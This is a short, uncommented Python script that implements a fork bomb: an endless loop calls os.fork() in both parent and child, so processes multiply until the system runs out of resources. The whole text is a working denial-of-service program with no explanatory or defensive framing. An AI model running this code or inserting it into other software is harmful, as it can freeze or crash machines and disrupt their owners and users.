import os
def main():
    while True:
        pid = os.fork()
        if pid == 0:
            continue
main()
